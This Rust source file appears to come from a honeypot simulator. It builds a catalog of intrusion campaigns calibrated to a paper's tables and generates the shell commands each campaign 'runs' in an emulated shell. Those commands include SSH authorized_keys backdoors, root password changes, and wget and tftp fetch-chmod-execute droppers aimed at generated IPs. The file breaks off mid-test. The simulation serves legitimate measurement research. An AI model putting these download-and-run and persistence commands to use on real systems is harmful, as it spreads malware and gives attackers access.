//! The intrusion-campaign catalog.
//!
//! Section 8 of the paper characterizes campaigns by the hash of the file
//! their sessions create. Tables 4–6 publish, per headline hash: session
//! count, unique client IPs, active days, a VirusTotal-style tag, and the
//! number of honeypots contacted. We encode those hashes as explicit
//! [`CampaignSpec`]s (H1…H42 plus the two miners and the malicious entries of
//! Table 4), then procedurally generate the long tail — the >60,000 hashes
//! that are each seen by only a handful of honeypots — and the bursty
//! CMD+URI downloader families (Fig. 6: "sessions with URIs occur in
//! bursts"; Fig. 11: the June 2022 spike).
//!
//! A campaign's hash is *not* stored anywhere: it emerges from executing the
//! campaign's command script inside the emulated shell, exactly as on a live
//! honeypot. Two sessions of the same campaign produce the same file content
//! and therefore the same SHA-256.

use hf_geo::CountryMix;
use hf_hash::Fnv64;
use hf_simclock::{Date, StudyWindow};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::scale::Scale;

/// Campaign identifier (index into the catalog).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct CampaignId(pub u32);

/// Threat tag, mirroring the labels the paper gets from VirusTotal et al.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Tag {
    Mirai,
    Trojan,
    Miner,
    Malicious,
    Suspicious,
    Unknown,
}

impl Tag {
    /// Stable label used in reports and the tag database.
    pub fn label(self) -> &'static str {
        match self {
            Tag::Mirai => "mirai",
            Tag::Trojan => "trojan",
            Tag::Miner => "miner",
            Tag::Malicious => "malicious",
            Tag::Suspicious => "suspicious",
            Tag::Unknown => "unknown",
        }
    }
}

/// Which honeypots a campaign touches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TargetSet {
    /// A fixed pseudo-random subset of `size` honeypots chosen by `seed`.
    /// The Mirai-77 family shares one seed, so its members hit the same
    /// 75–77 nodes (Table 6's striking observation).
    Subset { seed: u64, size: u16 },
    /// Subset, but biased toward honeypots on the client's continent —
    /// models the CMD+URI locality of Fig. 16(b).
    LocalSubset { seed: u64, size: u16 },
    /// Subset drawn under the hash-diversity popularity vector: long-tail
    /// campaigns concentrate on the hash-rich honeypots, which is what makes
    /// those nodes both hash-rich and early observers (Figs. 18/19).
    HashWeightedSubset { seed: u64, size: u16 },
}

/// The script family a campaign runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptKind {
    /// `echo "ssh-rsa …" >> /root/.ssh/authorized_keys` — H1's SSH-key trojan.
    TrojanKey,
    /// `echo <blob> > /tmp/.f; chmod 777; run` — generic dropper (no URI).
    DropperEcho,
    /// `echo root:<pw> | chpasswd` — credential change (hash via /etc/shadow).
    CredChange,
    /// `wget http://…; chmod 777; run` — SSH downloader (CMD+URI).
    DownloaderWget,
    /// `tftp -g -r … ; run` — Telnet/IoT downloader (CMD+URI).
    DownloaderTftp,
    /// `wget miner + echo config.json` — two file events per session.
    MinerSetup,
}

impl ScriptKind {
    /// Does the script reference an external URI?
    pub fn has_uri(self) -> bool {
        matches!(
            self,
            ScriptKind::DownloaderWget | ScriptKind::DownloaderTftp | ScriptKind::MinerSetup
        )
    }
}

/// One campaign.
#[derive(Debug, Clone)]
pub struct CampaignSpec {
    /// Catalog id.
    pub id: CampaignId,
    /// Human name ("H1", "tail-00042", …).
    pub name: String,
    /// Threat tag.
    pub tag: Tag,
    /// Script family.
    pub kind: ScriptKind,
    /// Seed determining payload bytes (and thus the hash) per variant.
    pub payload_seed: u64,
    /// Number of payload variants. Variant `v` is active on the `v`-th
    /// activity *block* (contiguous run of active days), so multi-variant
    /// campaigns yield fresh hashes when they re-appear.
    pub n_variants: u32,
    /// Total sessions over the campaign's life (already scaled).
    pub total_sessions: u64,
    /// Distinct client IPs over its life (already scaled; ≥1).
    pub n_clients: u64,
    /// Sorted list of active day indices.
    pub active_days: Vec<u32>,
    /// Honeypot targeting.
    pub targets: TargetSet,
    /// Permille of sessions using Telnet (rest SSH).
    pub telnet_permille: u32,
    /// Fixed credentials, or `None` to sample from the credential model.
    /// (The Mirai-77 family always uses root:1234 — Section 8.2.)
    pub fixed_password: Option<&'static str>,
    /// Client origin mix.
    pub origin: CountryMix,
    /// Fraction (permille) of this campaign's clients drawn from the shared
    /// bruteforce pool (multi-role IPs, Fig. 15).
    pub reuse_bruteforce_permille: u32,
}

impl CampaignSpec {
    /// Sessions to emit on `day` (0 if inactive). The total is spread evenly
    /// over the active days; when there are fewer sessions than active days
    /// the sessions land on evenly spaced days across the whole life (so a
    /// scaled-down long-haul campaign still spans its full window rather
    /// than bunching at the start).
    pub fn sessions_on(&self, day: u32) -> u64 {
        match self.active_days.binary_search(&day) {
            Err(_) => 0,
            Ok(idx) => {
                let n = self.active_days.len() as u64;
                let idx = idx as u64;
                // Count of sessions allotted to days [0, idx] minus [0, idx):
                // evenly spaced via the floor trick.
                let upto = |i: u64| i * self.total_sessions / n;
                upto(idx + 1) - upto(idx)
            }
        }
    }

    /// Variant active on `day`: the index of the activity block containing
    /// `day`, modulo `n_variants`.
    pub fn variant_on(&self, day: u32) -> u32 {
        if self.n_variants <= 1 {
            return 0;
        }
        let mut block = 0u32;
        let mut prev: Option<u32> = None;
        for &d in &self.active_days {
            if let Some(p) = prev {
                if d > p + 1 {
                    block += 1;
                }
            }
            if d == day {
                return block % self.n_variants;
            }
            if d > day {
                break;
            }
            prev = Some(d);
        }
        block % self.n_variants
    }

    /// The payload token for a variant: a deterministic pseudo-random blob
    /// rendered as hex, unique per (campaign, variant).
    pub fn payload_token(&self, variant: u32) -> String {
        let h1 = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix_u64(variant as u64)
            .finish();
        let h2 = Fnv64::new().mix_u64(h1).mix(b"pad").finish();
        format!("{h1:016x}{h2:016x}")
    }

    /// Body bytes served for this campaign's downloads.
    pub fn payload_bytes(&self, variant: u32) -> Vec<u8> {
        let mut body = b"\x7fELF\x01\x01\x01\x00".to_vec();
        body.extend_from_slice(self.payload_token(variant).as_bytes());
        body.extend_from_slice(format!("|{}|{}", self.name, variant).as_bytes());
        body
    }

    /// The URI a downloader variant fetches from, if any.
    pub fn uri(&self, variant: u32) -> Option<String> {
        if !self.kind.has_uri() {
            return None;
        }
        let h = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix(b"host")
            .finish();
        let host = format!(
            "{}.{}.{}.{}",
            45 + (h % 150) as u8,
            (h >> 8) as u8,
            (h >> 16) as u8,
            1 + ((h >> 24) % 250) as u8
        );
        let file = self.binary_name(variant);
        Some(match self.kind {
            ScriptKind::DownloaderTftp => format!("tftp://{host}/{file}"),
            _ => format!("http://{host}/bins/{file}"),
        })
    }

    /// Name of the dropped binary.
    pub fn binary_name(&self, variant: u32) -> String {
        let archs = ["x86", "arm7", "mips", "mpsl", "arm", "x86_64", "sh4", "ppc"];
        let h = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix(b"bin")
            .mix_u64(variant as u64)
            .finish();
        format!(
            "b{:x}.{}",
            h % 0xffff,
            archs[(h >> 16) as usize % archs.len()]
        )
    }

    /// The command lines this campaign's sessions execute, for a variant.
    pub fn script(&self, variant: u32) -> Vec<String> {
        let token = self.payload_token(variant);
        match self.kind {
            ScriptKind::TrojanKey => vec![
                "cat /proc/cpuinfo | grep name | wc -l".to_string(),
                format!(
                    "cd /root; mkdir -p .ssh; echo \"ssh-rsa AAAAB3{token} rsa@vps\" >> .ssh/authorized_keys; chmod 700 .ssh"
                ),
                "uname -a; whoami".to_string(),
            ],
            ScriptKind::DropperEcho => {
                let f = format!(".{}", &token[..6]);
                vec![
                    "cd /tmp".to_string(),
                    format!("echo {token} > {f}"),
                    format!("chmod 777 {f}"),
                    format!("./{f}"),
                ]
            }
            ScriptKind::CredChange => vec![
                "uname -a".to_string(),
                format!("echo root:{} | chpasswd", &token[..10]),
                "history".to_string(),
            ],
            ScriptKind::DownloaderWget => {
                let uri = self.uri(variant).expect("wget kind has uri");
                let f = self.binary_name(variant);
                vec![
                    "cd /tmp || cd /var/run || cd /mnt".to_string(),
                    format!("wget {uri}"),
                    format!("chmod 777 {f}"),
                    format!("./{f}"),
                    format!("rm -rf {f}"),
                ]
            }
            ScriptKind::DownloaderTftp => {
                let uri = self.uri(variant).expect("tftp kind has uri");
                // tftp://host/file → `tftp -g -r file host`
                let rest = uri.strip_prefix("tftp://").unwrap();
                let (host, file) = rest.split_once('/').unwrap();
                vec![
                    "cd /tmp".to_string(),
                    format!("tftp -g -r {file} {host}"),
                    format!("chmod 777 {file}"),
                    format!("./{file}"),
                ]
            }
            ScriptKind::MinerSetup => {
                let uri = self.uri(variant).expect("miner kind has uri");
                let f = self.binary_name(variant);
                vec![
                    "cd /opt".to_string(),
                    format!("wget {uri}"),
                    format!("chmod 777 {f}"),
                    format!("echo '{{\"pool\":\"pool.minexmr.example:4444\",\"wallet\":\"{token}\"}}' > config.json"),
                    format!("nohup ./{f}"),
                ]
            }
        }
    }

    /// Members of this campaign's honeypot target subset.
    pub fn target_nodes(&self, n_honeypots: u16) -> Vec<u16> {
        let (seed, size, weighted) = match self.targets {
            TargetSet::Subset { seed, size } | TargetSet::LocalSubset { seed, size } => {
                (seed, size, false)
            }
            TargetSet::HashWeightedSubset { seed, size } => (seed, size, true),
        };
        let size = size.min(n_honeypots);
        let mut rng = SmallRng::seed_from_u64(seed);
        if weighted {
            let weights = crate::weights::HoneypotWeights::paper_shape(
                n_honeypots as usize,
                crate::weights::Dimension::Hashes,
                0,
            );
            let mut out = Vec::with_capacity(size as usize);
            let mut tries = 0;
            while out.len() < size as usize && tries < 4096 {
                let node = weights.sample(&mut rng);
                if !out.contains(&node) {
                    out.push(node);
                }
                tries += 1;
            }
            // Fill any remainder uniformly (degenerate tiny farms).
            let mut next = 0u16;
            while out.len() < size as usize {
                if !out.contains(&next) {
                    out.push(next);
                }
                next += 1;
            }
            out.sort_unstable();
            return out;
        }
        let mut all: Vec<u16> = (0..n_honeypots).collect();
        // Partial Fisher–Yates: first `size` entries become the subset.
        for i in 0..size as usize {
            let j = rng.gen_range(i..all.len());
            all.swap(i, j);
        }
        all.truncate(size as usize);
        all.sort_unstable();
        all
    }
}

/// Recon scripts for CMD sessions that do *not* create files (the paper: two
/// thirds of command sessions involve no file-system write).
pub fn recon_script(variant: u64) -> Vec<String> {
    const TEMPLATES: &[&[&str]] = &[
        &["uname -a", "cat /proc/cpuinfo | grep model", "free -m"],
        &["uname -s -m", "nproc", "w"],
        &[
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem",
            "ls /bin",
        ],
        &["ps x", "which busybox sh", "uname -a"],
        &["cat /proc/version", "uptime", "whoami"],
        &["top", "df", "cat /proc/meminfo | head -2"],
        &["echo -e bves7983x", "uname -a"],
        &["w", "history", "ifconfig"],
    ];
    TEMPLATES[(variant % TEMPLATES.len() as u64) as usize]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

/// Paper-calibrated headline campaigns (values at scale 1.0):
/// (name, tag, kind, sessions, clients, active days, honeypots,
///  telnet‰, fixed password, span = (start_frac, end_frac) of the window,
///  duty discontinuous?)
struct Headliner {
    name: &'static str,
    tag: Tag,
    kind: ScriptKind,
    sessions: f64,
    clients: f64,
    days: u32,
    honeypots: u16,
    telnet_permille: u32,
    fixed_password: Option<&'static str>,
    /// First day of the campaign's life.
    start_day: u32,
    /// Span of days its life stretches over (>= days; gaps are breaks).
    span: u32,
}

/// Day index helper for calendar anchors.
fn day_of(window: &StudyWindow, y: i32, m: u8, d: u8) -> u32 {
    window.day_index(Date::new(y, m, d)).unwrap_or(0)
}

#[rustfmt::skip] // one headliner per line keeps the Table 4–6 data scannable
fn headliners(window: &StudyWindow) -> Vec<Headliner> {
    use ScriptKind::*;
    use Tag::*;
    let jun22 = day_of(window, 2022, 6, 1);
    vec![
        // The dominant SSH-key trojan: all honeypots, almost every day.
        Headliner { name: "H1", tag: Trojan, kind: TrojanKey, sessions: 25_688_228.0, clients: 118_924.0, days: 484, honeypots: 221, telnet_permille: 20, fixed_password: None, start_day: 0, span: 486 },
        // 3 clients, half the period with breaks, almost all honeypots.
        Headliner { name: "H2", tag: Unknown, kind: DropperEcho, sessions: 153_672.0, clients: 3.0, days: 252, honeypots: 202, telnet_permille: 0, fixed_password: Some("3245gs5662d34"), start_day: 60, span: 400 },
        Headliner { name: "H3", tag: Trojan, kind: TrojanKey, sessions: 110_280.0, clients: 12_698.0, days: 119, honeypots: 150, telnet_permille: 10, fixed_password: None, start_day: 150, span: 140 },
        Headliner { name: "H4", tag: Mirai, kind: DownloaderWget, sessions: 105_102.0, clients: 1_288.0, days: 20, honeypots: 203, telnet_permille: 350, fixed_password: Some("1234"), start_day: 210, span: 20 },
        Headliner { name: "H5", tag: Mirai, kind: DownloaderTftp, sessions: 96_523.0, clients: 1_027.0, days: 451, honeypots: 221, telnet_permille: 600, fixed_password: Some("1234"), start_day: 10, span: 470 },
        // Malicious entries of Table 4 (few clients, many sessions).
        Headliner { name: "Hm1", tag: Malicious, kind: DropperEcho, sessions: 80_000.0, clients: 300.0, days: 60, honeypots: 180, telnet_permille: 50, fixed_password: None, start_day: 120, span: 70 },
        Headliner { name: "Hm2", tag: Malicious, kind: CredChange, sessions: 70_000.0, clients: 150.0, days: 45, honeypots: 160, telnet_permille: 0, fixed_password: None, start_day: 300, span: 50 },
        Headliner { name: "Hm3", tag: Malicious, kind: DropperEcho, sessions: 60_000.0, clients: 90.0, days: 90, honeypots: 190, telnet_permille: 0, fixed_password: None, start_day: 30, span: 100 },
        Headliner { name: "Hm4", tag: Malicious, kind: CredChange, sessions: 52_000.0, clients: 60.0, days: 35, honeypots: 150, telnet_permille: 0, fixed_password: None, start_day: 400, span: 40 },
        Headliner { name: "Hm5", tag: Malicious, kind: DropperEcho, sessions: 48_000.0, clients: 45.0, days: 25, honeypots: 140, telnet_permille: 0, fixed_password: None, start_day: 250, span: 30 },
        Headliner { name: "H9", tag: Trojan, kind: TrojanKey, sessions: 57_726.0, clients: 43.0, days: 220, honeypots: 173, telnet_permille: 0, fixed_password: None, start_day: 100, span: 260 },
        Headliner { name: "H10", tag: Mirai, kind: DownloaderWget, sessions: 54_464.0, clients: 488.0, days: 6, honeypots: 209, telnet_permille: 400, fixed_password: Some("1234"), start_day: 280, span: 6 },
        Headliner { name: "H8", tag: Mirai, kind: DownloaderWget, sessions: 45_000.0, clients: 165.0, days: 4, honeypots: 200, telnet_permille: 400, fixed_password: Some("1234"), start_day: 190, span: 4 },
        // Miners: one single-client month-long, one 12-day 200-client.
        Headliner { name: "M1", tag: Miner, kind: MinerSetup, sessions: 40_000.0, clients: 1.0, days: 30, honeypots: 210, telnet_permille: 0, fixed_password: None, start_day: 330, span: 30 },
        Headliner { name: "M2", tag: Miner, kind: MinerSetup, sessions: 20_000.0, clients: 200.0, days: 12, honeypots: 205, telnet_permille: 0, fixed_password: None, start_day: 95, span: 12 },
        Headliner { name: "H33", tag: Mirai, kind: DownloaderTftp, sessions: 29_227.0, clients: 575.0, days: 456, honeypots: 221, telnet_permille: 600, fixed_password: Some("1234"), start_day: 5, span: 480 },
        Headliner { name: "H21", tag: Suspicious, kind: DropperEcho, sessions: 16_670.0, clients: 5_897.0, days: 9, honeypots: 205, telnet_permille: 100, fixed_password: None, start_day: jun22, span: 9 },
        Headliner { name: "H38", tag: Trojan, kind: TrojanKey, sessions: 10_834.0, clients: 4.0, days: 172, honeypots: 197, telnet_permille: 0, fixed_password: None, start_day: 200, span: 230 },
        Headliner { name: "H41", tag: Trojan, kind: TrojanKey, sessions: 8_309.0, clients: 4.0, days: 145, honeypots: 193, telnet_permille: 0, fixed_password: None, start_day: 220, span: 190 },
        Headliner { name: "H40", tag: Unknown, kind: DropperEcho, sessions: 7_532.0, clients: 5.0, days: 151, honeypots: 4, telnet_permille: 0, fixed_password: None, start_day: 150, span: 200 },
        Headliner { name: "H36", tag: Mirai, kind: DownloaderWget, sessions: 6_213.0, clients: 399.0, days: 325, honeypots: 220, telnet_permille: 500, fixed_password: Some("1234"), start_day: 40, span: 430 },
        Headliner { name: "H37", tag: Mirai, kind: DownloaderWget, sessions: 4_875.0, clients: 27.0, days: 274, honeypots: 217, telnet_permille: 300, fixed_password: Some("1234"), start_day: 80, span: 360 },
        Headliner { name: "H35", tag: Unknown, kind: DropperEcho, sessions: 2_809.0, clients: 416.0, days: 8, honeypots: 193, telnet_permille: 0, fixed_password: None, start_day: 260, span: 8 },
        Headliner { name: "H22", tag: Unknown, kind: DropperEcho, sessions: 4_680.0, clients: 2_213.0, days: 16, honeypots: 206, telnet_permille: 200, fixed_password: None, start_day: 170, span: 16 },
        Headliner { name: "H23", tag: Unknown, kind: CredChange, sessions: 1_803.0, clients: 1_310.0, days: 63, honeypots: 126, telnet_permille: 100, fixed_password: None, start_day: 350, span: 80 },
        Headliner { name: "H27", tag: Malicious, kind: DropperEcho, sessions: 1_208.0, clients: 1_067.0, days: 30, honeypots: 113, telnet_permille: 100, fixed_password: None, start_day: 55, span: 30 },
        Headliner { name: "H31", tag: Suspicious, kind: DropperEcho, sessions: 1_191.0, clients: 704.0, days: 3, honeypots: 185, telnet_permille: 0, fixed_password: None, start_day: 400, span: 3 },
        Headliner { name: "H34", tag: Trojan, kind: TrojanKey, sessions: 761.0, clients: 448.0, days: 301, honeypots: 118, telnet_permille: 0, fixed_password: None, start_day: 90, span: 380 },
        Headliner { name: "H39", tag: Mirai, kind: DownloaderTftp, sessions: 981.0, clients: 19.0, days: 159, honeypots: 75, telnet_permille: 700, fixed_password: Some("1234"), start_day: 120, span: 240 },
        Headliner { name: "H42", tag: Trojan, kind: TrojanKey, sessions: 660.0, clients: 13.0, days: 145, honeypots: 63, telnet_permille: 0, fixed_password: None, start_day: 180, span: 220 },
        // The Mirai-77 family: same subset of 75–77 honeypots, root:1234.
        Headliner { name: "H24", tag: Mirai, kind: DownloaderTftp, sessions: 2_279.0, clients: 1_144.0, days: 425, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 20, span: 460 },
        Headliner { name: "H25", tag: Mirai, kind: DownloaderTftp, sessions: 2_250.0, clients: 1_126.0, days: 424, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 22, span: 458 },
        Headliner { name: "H26", tag: Mirai, kind: DownloaderTftp, sessions: 2_187.0, clients: 1_108.0, days: 423, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 24, span: 456 },
        Headliner { name: "H28", tag: Mirai, kind: DownloaderTftp, sessions: 1_485.0, clients: 752.0, days: 305, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 60, span: 400 },
        Headliner { name: "H29", tag: Mirai, kind: DownloaderTftp, sessions: 1_503.0, clients: 750.0, days: 312, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 58, span: 410 },
        Headliner { name: "H30", tag: Mirai, kind: DownloaderTftp, sessions: 1_443.0, clients: 736.0, days: 305, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 62, span: 400 },
        Headliner { name: "H32", tag: Mirai, kind: DownloaderTftp, sessions: 1_213.0, clients: 610.0, days: 281, honeypots: 75, telnet_permille: 800, fixed_password: Some("1234"), start_day: 90, span: 380 },
    ]
}

/// The assembled catalog.
#[derive(Debug)]
pub struct CampaignCatalog {
    specs: Vec<CampaignSpec>,
    /// Ids of headline campaigns by name.
    headline_ids: Vec<(String, CampaignId)>,
}

/// Long-tail generation budget (scale-1.0 values).
const TAIL_HASHES: f64 = 61_000.0;
const TAIL_SESSIONS: f64 = 1_500_000.0;
/// Days of the paper's full window (for prorating truncated test windows).
const PAPER_DAYS: f64 = 486.0;
/// Recon CMD sessions are planned by the recon source, not the catalog.
/// CMD+URI burst families.
const URI_FAMILIES: usize = 30;
const URI_FAMILY_SESSIONS: f64 = 2_300_000.0 / URI_FAMILIES as f64;

impl CampaignCatalog {
    /// Build the catalog for a study window at a given scale.
    pub fn build(seed: u64, scale: &Scale, window: &StudyWindow) -> Self {
        let days = window.num_days();
        let window_frac = days as f64 / PAPER_DAYS;
        let mut specs = Vec::new();
        let mut headline_ids = Vec::new();
        let mut rng = SmallRng::seed_from_u64(seed ^ 0xc0de_cafe);

        // Shared subset seed for the Mirai-77 family.
        let mirai77_seed = Fnv64::new().mix_u64(seed).mix(b"mirai77").finish();

        for h in headliners(window) {
            let id = CampaignId(specs.len() as u32);
            let is77 = (75..=77).contains(&h.honeypots);
            let target_seed = if is77 {
                // Family members share a base; tiny size differences (75/76/77)
                // keep the subsets nested-ish like the paper's.
                mirai77_seed
            } else {
                rng.gen()
            };
            let active_days = pick_active_days(
                h.start_day.min(days - 1),
                h.span,
                h.days,
                days,
                Fnv64::new().mix_u64(seed).mix(h.name.as_bytes()).finish(),
            );
            let targets = if h.kind.has_uri() && !is77 {
                TargetSet::LocalSubset {
                    seed: target_seed,
                    size: h.honeypots,
                }
            } else {
                TargetSet::Subset {
                    seed: target_seed,
                    size: h.honeypots,
                }
            };
            specs.push(CampaignSpec {
                id,
                name: h.name.to_string(),
                tag: h.tag,
                kind: h.kind,
                payload_seed: Fnv64::new()
                    .mix_u64(seed)
                    .mix(b"payload")
                    .mix(h.name.as_bytes())
                    .finish(),
                n_variants: 1,
                // Sessions prorated to the share of active days that fit
                // inside a (possibly truncated) window.
                total_sessions: scale
                    .count_min(h.sessions * active_days.len() as f64 / h.days as f64, 2),
                // Tiny paper populations (H2's 3 clients, H38's 4) are kept
                // exactly; larger ones scale.
                n_clients: if h.clients <= 50.0 {
                    h.clients as u64
                } else {
                    scale.count_min(h.clients, 1)
                }
                .min(scale.count_min(h.sessions, 2)),
                active_days,
                targets,
                telnet_permille: h.telnet_permille,
                fixed_password: h.fixed_password,
                origin: if h.kind.has_uri() {
                    CountryMix::command_uri()
                } else {
                    CountryMix::command()
                },
                reuse_bruteforce_permille: 400,
            });
            headline_ids.push((h.name.to_string(), id));
        }

        // --- CMD+URI burst families ------------------------------------
        let jun22 = day_of(window, 2022, 6, 1);
        for f in 0..URI_FAMILIES {
            let id = CampaignId(specs.len() as u32);
            let fam_seed: u64 = rng.gen();
            let n_bursts = 3 + (fam_seed % 6) as u32; // 3..=8 bursts
            let mut active = Vec::new();
            let mut brng = SmallRng::seed_from_u64(fam_seed);
            for b in 0..n_bursts {
                // Family 0 gets the June 2022 spike as its first burst.
                let start = if f == 0 && b == 0 && jun22 + 10 < days {
                    jun22
                } else {
                    brng.gen_range(0..days.saturating_sub(10).max(1))
                };
                let len = brng.gen_range(2..=9);
                for d in start..(start + len).min(days) {
                    active.push(d);
                }
            }
            active.sort_unstable();
            active.dedup();
            let clients = if f == 0 {
                2_500.0
            } else {
                100.0 + (fam_seed % 700) as f64
            };
            specs.push(CampaignSpec {
                id,
                name: format!("uri-family-{f:02}"),
                tag: if fam_seed.is_multiple_of(3) {
                    Tag::Mirai
                } else {
                    Tag::Malicious
                },
                kind: if fam_seed.is_multiple_of(2) {
                    ScriptKind::DownloaderWget
                } else {
                    ScriptKind::DownloaderTftp
                },
                payload_seed: fam_seed,
                n_variants: n_bursts.max(1),
                total_sessions: scale.count_min(URI_FAMILY_SESSIONS * window_frac, 4),
                n_clients: scale.count_min(clients * window_frac.max(0.1), 2),
                active_days: active,
                targets: TargetSet::LocalSubset {
                    seed: fam_seed ^ 0x1111,
                    size: 120 + (fam_seed % 100) as u16,
                },
                telnet_permille: 376, // calibrates CMD+URI to 37.55% Telnet
                fixed_password: None,
                origin: CountryMix::command_uri(),
                reuse_bruteforce_permille: 600,
            });
        }

        // --- the long tail ----------------------------------------------
        let n_tail = (scale.hash_count(TAIL_HASHES) as f64 * window_frac)
            .ceil()
            .max(8.0) as usize;
        let tail_sessions_total = scale.count_min(TAIL_SESSIONS * window_frac, n_tail as u64);
        let mut remaining_sessions = tail_sessions_total;
        for t in 0..n_tail {
            let id = CampaignId(specs.len() as u32);
            let cseed: u64 = rng.gen();
            // Lifetime: 60% one day, 30% up to a week, 10% weeks with gaps.
            let life = match cseed % 10 {
                0..=5 => 1u32,
                6..=8 => 2 + (cseed >> 8) as u32 % 6,
                _ => 10 + (cseed >> 8) as u32 % 60,
            };
            let birth = (cseed >> 20) as u32 % days.max(1);
            let active_days = pick_active_days(
                birth,
                life.max(1),
                life.max(1).min(days - birth.min(days - 1)),
                days,
                cseed,
            );
            // Session budget per tail campaign: heavy-tailed, small mean.
            let mean = (tail_sessions_total / n_tail.max(1) as u64).max(1);
            let sessions = if t + 1 == n_tail {
                remaining_sessions.max(1)
            } else {
                let draw = 1 + (Fnv64::new().mix_u64(cseed).mix(b"s").finish() % (2 * mean).max(2));
                draw.min(
                    remaining_sessions
                        .saturating_sub((n_tail - t - 1) as u64)
                        .max(1),
                )
            };
            remaining_sessions = remaining_sessions.saturating_sub(sessions);
            // >60% single honeypot; rest small subsets.
            let hp = match cseed % 100 {
                0..=64 => 1u16,
                65..=89 => 2 + (cseed % 8) as u16,
                _ => 10 + (cseed % 40) as u16,
            };
            specs.push(CampaignSpec {
                id,
                name: format!("tail-{t:05}"),
                tag: Tag::Unknown,
                kind: if cseed.is_multiple_of(3) {
                    ScriptKind::CredChange
                } else {
                    ScriptKind::DropperEcho
                },
                payload_seed: cseed,
                n_variants: 1,
                total_sessions: sessions.max(1),
                n_clients: 1 + cseed % 3,
                active_days,
                targets: TargetSet::HashWeightedSubset {
                    seed: cseed ^ 0xbeef,
                    size: hp,
                },
                telnet_permille: 100,
                fixed_password: None,
                origin: CountryMix::command(),
                reuse_bruteforce_permille: 800,
            });
        }

        CampaignCatalog {
            specs,
            headline_ids,
        }
    }

    /// All campaigns.
    pub fn specs(&self) -> &[CampaignSpec] {
        &self.specs
    }

    /// Get one campaign.
    pub fn get(&self, id: CampaignId) -> &CampaignSpec {
        &self.specs[id.0 as usize]
    }

    /// Number of campaigns.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// Is the catalog empty?
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    /// Find a headline campaign by name ("H1", "M2", …).
    pub fn by_name(&self, name: &str) -> Option<&CampaignSpec> {
        self.headline_ids
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, id)| self.get(*id))
    }
}

/// Choose `active` day indices for a campaign starting at `start` across a
/// `span` of days, deterministic in `seed`. When `active == span` the days
/// are contiguous; otherwise days are dropped pseudo-randomly (breaks).
fn pick_active_days(start: u32, span: u32, active: u32, window_days: u32, seed: u64) -> Vec<u32> {
    let start = start.min(window_days.saturating_sub(1));
    let end = (start + span).min(window_days);
    let span_days: Vec<u32> = (start..end).collect();
    let active = (active as usize).min(span_days.len()).max(1);
    if active == span_days.len() {
        return span_days;
    }
    // Deterministic reservoir-style selection, then sort.
    let mut rng = SmallRng::seed_from_u64(seed);
    let mut chosen: Vec<u32> = span_days.clone();
    for i in 0..active {
        let j = rng.gen_range(i..chosen.len());
        chosen.swap(i, j);
    }
    chosen.truncate(active);
    chosen.sort_unstable();
    chosen
}

#[cfg(test)]
mod tests {
    use super::*;

    fn catalog() -> CampaignCatalog {
        CampaignCatalog::build(11, &Scale::tiny(), &StudyWindow::paper())
    }

    #[test]
    fn h1_dominates_sessions() {
        let c = catalog();
        let h1 = c.by_name("H1").unwrap();
        let next_best = c
            .specs()
            .iter()
            .filter(|s| s.name != "H1")
            .map(|s| s.total_sessions)
            .max()
            .unwrap();
        assert!(
            h1.total_sessions > 20 * next_best,
            "{} vs {}",
            h1.total_sessions,
            next_best
        );
        assert_eq!(h1.tag, Tag::Trojan);
        assert!(h1.active_days.len() > 450);
    }

    #[test]
    fn h2_has_three_clients_and_breaks() {
        let c = catalog();
        let h2 = c.by_name("H2").unwrap();
        assert_eq!(h2.n_clients, 3);
        // Active days fewer than span → campaign pauses and restarts.
        let span = h2.active_days.last().unwrap() - h2.active_days.first().unwrap() + 1;
        assert!(span > h2.active_days.len() as u32);
    }

    #[test]
    fn mirai77_family_shares_target_subset() {
        let c = catalog();
        let h24 = c.by_name("H24").unwrap().target_nodes(221);
        let h25 = c.by_name("H25").unwrap().target_nodes(221);
        let h32 = c.by_name("H32").unwrap().target_nodes(221);
        assert_eq!(h24.len(), 77);
        assert_eq!(h32.len(), 75);
        // Same seed → same shuffle prefix → h32 ⊂ h24 (nested subsets).
        let set24: std::collections::BTreeSet<u16> = h24.iter().copied().collect();
        assert!(h25.iter().filter(|n| set24.contains(n)).count() >= 75);
        assert!(h32.iter().all(|n| set24.contains(n)));
        // And they all use root:1234 (Section 8.2).
        assert_eq!(c.by_name("H24").unwrap().fixed_password, Some("1234"));
    }

    #[test]
    fn scripts_are_stable_and_kind_consistent() {
        let c = catalog();
        let h1 = c.by_name("H1").unwrap();
        assert_eq!(h1.script(0), h1.script(0));
        assert!(h1.script(0).iter().any(|l| l.contains("authorized_keys")));
        assert!(h1.uri(0).is_none());
        let h4 = c.by_name("H4").unwrap();
        assert!(h4.uri(0).unwrap().starts_with("http://"));
        assert!(h4.script(0).iter().any(|l| l.starts_with("wget ")));
        let h5 = c.by_name("H5").unwrap();
        assert!(h5.uri(0).unwrap().starts_with("tftp://"));
        assert!(h5.script(0).iter().any(|l| l.starts_with("tftp ")));
    }

    #[test]
    fn payloads_unique_per_campaign_and_variant() {
        let c = catalog();
        let a = c.by_name("H4").unwrap();
        let b = c.by_name("H5").unwrap();
        assert_ne!(a.payload_bytes(0), b.payload_bytes(0));
        assert_ne!(a.payload_bytes(0), a.payload_bytes(1));
    }

    #[test]
    fn sessions_on_sums_to_total() {
        let c = catalog();
        for name in ["H1", "H2", "H40", "M1"] {
            let s = c.by_name(name).unwrap();
            let sum: u64 = s.active_days.iter().map(|&d| s.sessions_on(d)).sum();
